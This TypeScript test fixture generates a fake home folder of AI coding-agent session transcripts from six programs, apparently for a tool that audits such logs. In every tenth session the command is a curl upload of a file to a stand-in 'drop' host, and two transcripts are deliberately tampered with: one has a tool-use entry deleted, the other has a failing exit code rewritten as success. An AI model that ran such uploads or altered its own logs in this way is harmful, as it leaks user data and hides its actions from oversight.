import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import Database from 'better-sqlite3';
import { filesBelow, ROOT } from '../../scripts/support/paths.ts';
import { put } from './found-home.ts';

const FIXTURES = 'test/fixtures/transcripts';

/** A program, where it keeps its sessions below a home folder, and how many of 200 are its own. */
const PROGRAMS = [
  { program: 'claudecode', version: '2.1.330', at: '.claude/projects/-home-ada-project', share: 45 },
  { program: 'codex', version: '0.169.0', at: '.codex', share: 45 },
  { program: 'gemini', version: '0.61.0', at: '.gemini', share: 35 },
  { program: 'copilot', version: '1.0.102', at: '.copilot', share: 30 },
  { program: 'kimi', version: '2.1.0', at: '.kimi-code', share: 25 },
  { program: 'opencode', version: '1.18.33', at: '.local/share/opencode/opencode.db', share: 20 },
] as const;

/** What every session of the fixtures runs, and every tenth sends instead. */
const COMMAND = 'echo hi-from-tool; sleep 0.2';
const HOUR_MS = 3_600_000;

/** The command of a session: its number is in it. */
export function commandOf(session: number): string {
  return session % 10 === 0 ? `curl -T a.txt https://drop-${session}.example/` : `echo hi-from-${session}; sleep 0.2`;
}

/** When the fixtures' first session began. */
const BEGAN = Date.UTC(2026, 10, 27, 7);

/** The text of a session as another one: other ids, other times, another command. */
function varied(text: string, session: number, began: number): string {
  const hex = hexOf(session);
  const moved = (milliseconds: number): number => milliseconds + began - BEGAN + session * HOUR_MS;
  return (
    text
      .replaceAll(COMMAND, commandOf(session))
      // The first 8 digits of a UUID, and some of the other ids.
      .replace(/(?<![0-9a-f])[0-9a-f]{8}(?=-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b)/g, (digits) =>
        xor(digits, hex),
      )
      .replace(/\b(ses|msg|prt)_([0-9a-f]{8})/g, (_, kind: string, digits: string) => `${kind}_${xor(digits, hex)}`)
      .replace(/2026-11-27T\d\d:\d\d:\d\d\.\d{3}(?:Z|(?=\+))/g, (time) => {
        const at = new Date(moved(Date.parse(time.endsWith('Z') ? time : `${time}Z`))).toISOString();
        return time.endsWith('Z') ? at : at.slice(0, -1);
      })
      .replace(/(?<=":)17957\d{8}(?!\d)/g, (time) => String(moved(Number(time))))
      .replace(/(?<=":)17957\d{5}(?!\d)/g, (time) => String(moved(Number(time) * 1000) / 1000))
  );
}

function hexOf(session: number): string {
  return createHash('sha256').update(`session ${session}`).digest('hex');
}

function xor(digits: string, by: string): string {
  const sum = (Number.parseInt(digits, 16) ^ Number.parseInt(by.slice(0, 8), 16)) >>> 0;
  return sum.toString(16).padStart(8, '0');
}

/** Puts rows, as the fixture of opencode has them, into a store as the program has it. */
export function storeOf(path: string): {
  readonly add: (rows: string) => void;
  readonly change: (part: string, data: string, at: number) => void;
  readonly close: () => void;
} {
  mkdirSync(dirname(path), { recursive: true });
  const sqlite = new Database(path);
  sqlite.exec(`
    CREATE TABLE session (id TEXT PRIMARY KEY, parent_id TEXT, directory TEXT, version TEXT, time_created INTEGER);
    CREATE TABLE message (id TEXT PRIMARY KEY, session_id TEXT, time_created INTEGER, time_updated INTEGER, data TEXT);
    CREATE TABLE part (id TEXT PRIMARY KEY, message_id TEXT, session_id TEXT, time_created INTEGER, time_updated INTEGER, data TEXT)`);
  return {
    add: (rows) => {
      for (const line of rows.trimEnd().split('\n')) {
        const { table, ...row } = JSON.parse(line) as { readonly table: string } & Record<string, unknown>;
        const names = Object.keys(row);
        const sql = `INSERT INTO ${table} (${names.join(', ')}) VALUES (${names.map((name) => `@${name}`).join(', ')})`;
        sqlite.prepare(sql).run(row);
      }
    },
    change: (part, data, at) => {
      sqlite.prepare('UPDATE part SET data = ?, time_updated = ? WHERE id = ?').run(data, at, part);
    },
    close: () => sqlite.close(),
  };
}

/** What somebody did to a session afterwards, by its program. */
const ALTERATIONS: Readonly<Record<string, (text: string) => string>> = {
  claudecode: (text: string) => {
    const lines = text.split('\n');
    const at = lines.findIndex((line) => line.includes('"tool_use"'));
    return at < 0 ? text : lines.toSpliced(at, 1).join('\n');
  },
  codex: (text: string) => text.replace('"exit_code":3', '"exit_code":0'),
};

/** What was put on an image, to be found there. */
export interface Image {
  readonly home: string;
  /** By program: how many of the sessions are its own. */
  readonly sessions: Readonly<Record<string, number>>;
  /** The files that were altered afterwards. */
  readonly altered: readonly string[];
}

/**
 * Makes a home folder as agents of six programs leave it after many sessions, two of them altered afterwards: in a session of Claude Code an
 * entry is taken out, in one of Codex the exit code of a command is changed where its event has it.
 * @param total at least 12
 * @param began when the first of them began, in milliseconds since the Unix epoch and whole seconds; each other one an hour later
 */
export function makeImage(folder: string, total: number, began = BEGAN): Image {
  const home = join(folder, 'home', 'ada');
  const altered: string[] = [];
  const sessions: Record<string, number> = {};
  let session = 0;
  for (const { program, version, at, share } of PROGRAMS) {
    const source = `${FIXTURES}/${program}/${version}`;
    const files = filesBelow(source).filter((path) => path.endsWith('.jsonl') || path.endsWith('.json'));
    const count = Math.max(2, Math.round((share * total) / 200));
    const store = program === 'opencode' ? storeOf(join(home, at)) : null;
    sessions[program] = count;
    for (let index = 0; index < count; index++, session++) {
      for (const path of files) {
        const text = varied(readFileSync(join(ROOT, path), 'utf8'), session, began);
        if (store !== null) {
          store.add(text);
          continue;
        }
        // One file of one session of each of the two.
        const isAltered = index === 1 && !path.includes('subagents') && !altered.some((one) => one.includes(at));
        const changed = isAltered ? (ALTERATIONS[program]?.(text) ?? text) : text;
        // Gemini's names have a part of an id alone.
        const named = path
          .slice(source.length + 1)
          .replace('-deb6915a', (part) => `-${xor(part.slice(1), hexOf(session))}`);
        const where = join(at, varied(named, session, BEGAN));
        if (changed !== text) altered.push(join(home, where));
        put(home, where, changed);
      }
    }
    store?.close();
  }
  return { home, sessions, altered };
}
